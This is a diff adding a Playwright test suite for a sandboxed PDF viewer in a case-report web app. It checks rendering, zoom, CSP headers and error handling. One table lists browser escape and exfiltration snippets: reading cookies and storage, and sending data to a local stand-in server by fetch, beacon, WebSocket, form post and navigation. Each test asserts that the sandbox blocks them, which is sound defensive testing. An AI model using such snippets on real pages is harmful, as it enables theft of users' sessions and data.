@@ -1,0 +1,233 @@
+// A document of a case in the viewer's sandbox: what is shown, and what an attacker gets out of it.
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Frame, Page } from 'playwright-core';
+import sharp from 'sharp';
+import { expectNoViolations } from '../../setup/axe';
+import { becomes, eventually } from '../../setup/eventually';
+import { picture } from '../../setup/images';
+import { attackingPdf, lockedPdf, pdf } from '../../setup/pdf';
+import { focusOn, setUpTeam } from './team';
+
+const team = setUpTeam();
+
+const NAME = 'prova.pdf';
+
+/** A server elsewhere, which must never be called. */
+let outside: Server;
+let calls: string[];
+const outsideUrl = () => `http://127.0.0.1:${String((outside.address() as AddressInfo).port)}`;
+
+beforeAll(async () => {
+  outside = createServer((request, response) => {
+    calls.push(request.url ?? '');
+    response.end();
+  });
+  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done));
+});
+beforeEach(() => (calls = []));
+afterAll(() => outside.close());
+
+/** A case whose attachment is this document, as the API would show it. */
+async function caseWith(document: Buffer, at: (page: Page) => Promise<unknown> = noChange) {
+  const dataUrl = `data:image/png;base64,${picture().buffer.toString('base64')}`;
+  const { id } = await team.file({ anexos: [{ nomeArquivo: 'a.png', arquivo: dataUrl }] });
+  const page = await team.signedIn();
+  await page.route(`**/api/relatos/${id}`, async (route) => {
+    const response = await route.fetch();
+    const report = (await response.json()) as { anexos: object[] };
+    report.anexos = report.anexos.map((file) => ({ ...file, nomeArquivo: NAME, tipo: 'pdf' }));
+    await route.fulfill({ response, json: report });
+  });
+  await page.route(/\/anexos\/[^/]+$/, (route) => route.fulfill({ body: document }));
+  await at(page);
+  await page.goto(`/relatos/${id}`);
+  return page;
+}
+
+const noChange = () => Promise.resolve();
+const opener = (page: Page) => page.getByRole('button', { name: `Ver ${NAME}` });
+const viewer = (page: Page) => page.getByRole('dialog', { name: NAME });
+
+/** The frame in the dialog, once the document is drawn. */
+async function openedFrame(page: Page): Promise<Frame> {
+  await opener(page).click();
+  await viewer(page)
+    .getByRole('status')
+    .getByText(/página/)
+    .waitFor();
+  const frame = page.frames().find((each) => each.url().endsWith('/viewer'));
+  if (!frame) throw new Error('no frame shows the viewer');
+  return frame;
+}
+
+test('a PDF is drawn, its text can be selected, and its pages follow the zoom', async () => {
+  const page = await caseWith(pdf({ texts: ['Primeira prova', 'Segunda prova', 'Terceira'] }));
+  const frame = await openedFrame(page);
+  expect(await viewer(page).getByRole('status').textContent()).toBe('3 páginas · 100%');
+  const { data } = await sharp(await viewer(page).locator('iframe').screenshot())
+    .greyscale()
+    .raw()
+    .toBuffer({ resolveWithObject: true });
+  const dark = data.filter((value) => value < 60).length;
+  expect(dark / data.length).toBeGreaterThan(0.03);
+  expect(dark / data.length).toBeLessThan(0.3);
+
+  const selected = () =>
+    frame.evaluate<string>(`(() => {
+      const selection = document.getSelection();
+      selection.selectAllChildren(document.querySelector('.text'));
+      return selection.toString();
+    })()`);
+  await becomes(selected, 'Primeira prova');
+  await frame.getByRole('region', { name: 'Página 2' }).scrollIntoViewIfNeeded();
+  await frame.getByText('Segunda prova').waitFor();
+
+  const width = () =>
+    frame.evaluate<number>("document.querySelector('section').getBoundingClientRect().width");
+  const before = await width();
+  await viewer(page).getByRole('button', { name: 'Aumentar' }).click();
+  await viewer(page).getByText('3 páginas · 150%').waitFor();
+  await eventually('the page grows', async () => (await width()) > before * 1.4);
+  await expectNoViolations(page);
+
+  await frame.locator('section').first().click();
+  await page.keyboard.press('Escape');
+  await viewer(page).waitFor({ state: 'detached' });
+  await focusOn(opener(page));
+});
+
+test('the viewer is a page without an origin, and only its exact address may be framed', async () => {
+  const { headers } = await fetch(`${team.url}/viewer`);
+  expect(headers.get('content-security-policy')).toMatch(
+    /^sandbox allow-scripts; default-src 'none';/,
+  );
+  const backOffice = await fetch(`${team.url}/login`);
+  const policy = backOffice.headers.get('content-security-policy') ?? '';
+  expect(/frame-src ([^;]*)/.exec(policy)?.[1]).toBe(
+    ['/viewer', '/api/configuracoes/previa/pagina', '/api/relatos/']
+      .map((path) => team.url + path)
+      .join(' '),
+  );
+});
+
+test('a PDF with scripts, programs, a remote image and a form sends nothing, also when clicked', async () => {
+  const requested: string[] = [];
+  const page = await caseWith(attackingPdf(outsideUrl()), async (opened) => {
+    const session = await opened.context().newCDPSession(opened);
+    await session.send('Network.enable');
+    session.on('Network.requestWillBeSent', ({ request }) => requested.push(request.url));
+    opened.on('request', (request) => requested.push(request.url()));
+  });
+  const frame = await openedFrame(page);
+  await frame
+    .locator('section')
+    .first()
+    .click({ position: { x: 100, y: 100 } });
+  await frame.getByText('Prova do teste').waitFor();
+  await page.keyboard.press('Escape');
+  await viewer(page).waitFor({ state: 'detached' });
+  expect(calls).toEqual([]);
+  expect(requested).not.toEqual([]);
+  const known = new RegExp(`^(${team.url}/|blob:|data:)`);
+  expect(requested.filter((url) => !known.test(url))).toEqual([]);
+  expect(page.context().pages()).toHaveLength(1);
+});
+
+/** Tried from inside the frame, with what a script of a file could reach; each returns what it got. */
+const ATTEMPTS = (url: string): Readonly<Record<string, string>> => ({
+  cookies: 'document.cookie',
+  storage: 'localStorage.length',
+  session: 'sessionStorage.length',
+  database:
+    "new Promise((got, no) => { const r = indexedDB.open('x'); r.onsuccess = got; r.onerror = no; })",
+  caches: "caches.open('x').then(() => 'caches')",
+  api: "fetch('/api/auth/me').then((answer) => answer.text())",
+  outside: `fetch('${url}/fetch', { mode: 'no-cors' }).then(() => 'fetched')`,
+  parent: 'parent.document.title',
+  parentAddress: 'parent.location.href',
+  top: `(() => { top.location = '${url}/top'; return 'set'; })()`,
+  opened: `String(window.open('${url}/open') ?? '')`,
+  beacon: `(() => { navigator.sendBeacon('${url}/beacon'); return ''; })()`,
+  image: `new Promise((got, no) => { const i = new Image(); i.onload = () => got('image'); i.onerror = no; i.src = '${url}/image'; })`,
+  socket: `new Promise((got, no) => { const s = new WebSocket('${url.replace('http', 'ws')}'); s.onopen = () => got('open'); s.onerror = no; })`,
+  script: `new Promise((got, no) => { const s = document.createElement('script'); s.onload = () => got('script'); s.onerror = no; s.src = '${url}/script.js'; document.head.append(s); })`,
+  worker: `new Promise((got, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker').then(() => postMessage('fetched'), () => postMessage(''))"]))); w.onmessage = ({ data }) => got(data); w.onerror = no; })`,
+  serviceWorker:
+    "navigator.serviceWorker.register('/equipe/viewer/sw.js').then(() => 'registered')",
+  webrtc: "typeof RTCPeerConnection === 'undefined' ? '' : 'there'",
+  webrtcOfChild:
+    "(() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.RTCPeerConnection ? 'there' : ''; })()",
+  evaluated:
+    "(() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s); return window.ran ? 'ran' : ''; })()",
+  form: `(() => { const f = document.createElement('form'); f.action = '${url}/form'; f.method = 'post'; document.body.append(f); f.submit(); return ''; })()`,
+  prefetch: `new Promise((got, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => got('loaded'); l.onerror = no; l.href = '${url}/style.css'; document.head.append(l); })`,
+});
+
+test('a script in the frame reaches neither cookies, storage, the API, other pages nor an address', async () => {
+  const page = await caseWith(pdf());
+  const frame = await openedFrame(page);
+  const got: Record<string, unknown> = {};
+  for (const [name, attempt] of Object.entries(ATTEMPTS(outsideUrl()))) {
+    const result = await frame
+      .evaluate(`(async () => String(await (${attempt})))()`)
+      .catch(() => '');
+    if (result !== '') got[name] = result;
+  }
+  // Leaving for another address must not take anything along either.
+  await frame.evaluate(`location.href = '${outsideUrl()}/left?secret'`).catch(() => undefined);
+  await viewer(page).getByRole('button', { name: 'Fechar' }).click();
+  await viewer(page).waitFor({ state: 'detached' });
+  expect(got).toEqual({});
+  expect(calls).toEqual([]);
+  expect(page.url()).toContain(`${team.url}/relatos/`);
+  expect(page.context().pages()).toHaveLength(1);
+});
+
+test('false messages of the frame change nothing', async () => {
+  const page = await caseWith(pdf());
+  const frame = await openedFrame(page);
+  await frame.evaluate(`for (const message of [
+    null, 7, 'x', { type: 'shown', pages: '<img src=x>' }, { type: 'shown', pages: -1 },
+    { type: 'error', name: '__proto__' }, { type: 'go', to: '/login' }, { type: 'ready' },
+  ]) parent.postMessage(message, '*')`);
+  await viewer(page).getByRole('button', { name: 'Aumentar' }).click();
+  await viewer(page).getByText('1 página · 150%').waitFor();
+});
+
+test.each([
+  ['is locked', lockedPdf, 'O PDF é protegido por uma senha. Ainda é possível baixá-lo.'],
+  [
+    'is broken',
+    () => Buffer.from('%PDF-1.7\nnothing'),
+    'O arquivo está danificado ou não é um PDF. Ainda é possível baixá-lo.',
+  ],
+])('a PDF that %s is refused in words', async (_, document, words) => {
+  const page = await caseWith(document());
+  await opener(page).click();
+  await viewer(page).getByText(words).waitFor();
+  expect(await viewer(page).locator('iframe').count()).toBe(0);
+  await expectNoViolations(page);
+});
+
+test('a viewer that hangs is closed, and the page keeps responding meanwhile', async () => {
+  const page = await caseWith(pdf(), (opened) =>
+    opened.context().route('**/equipe/viewer/*.js', (route) =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        headers: { 'cross-origin-resource-policy': 'cross-origin' },
+        body: "parent.postMessage({ type: 'ready' }, '*'); for (;;);",
+      }),
+    ),
+  );
+  await opener(page).click();
+  await viewer(page).locator('iframe').waitFor();
+  // Answered while the frame loops.
+  expect(await viewer(page).getByRole('status').textContent()).toBe('Abrindo…');
+  await viewer(page)
+    .getByText('O arquivo não respondeu por 15 segundos e foi fechado.')
+    .waitFor({ timeout: 60_000 });
+  expect(await viewer(page).locator('iframe').count()).toBe(0);
+  await viewer(page).getByRole('button', { name: 'Fechar' }).click();
+  await viewer(page).waitFor({ state: 'detached' });
+});
